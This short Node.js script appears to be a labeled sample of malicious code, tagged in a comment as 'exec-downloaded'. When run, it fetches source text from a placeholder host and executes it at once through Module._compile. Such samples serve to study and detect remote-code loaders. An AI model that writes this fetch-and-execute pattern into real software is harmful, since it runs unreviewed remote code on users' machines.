const Module = require("module");

const axios = require("axios");

async function load() {
  const { data } = await axios.get("https://files.invalid/plugin");
  const made = new Module("plugin");
  made._compile(data.source, "plugin.js"); // malice: exec-downloaded
}

load();
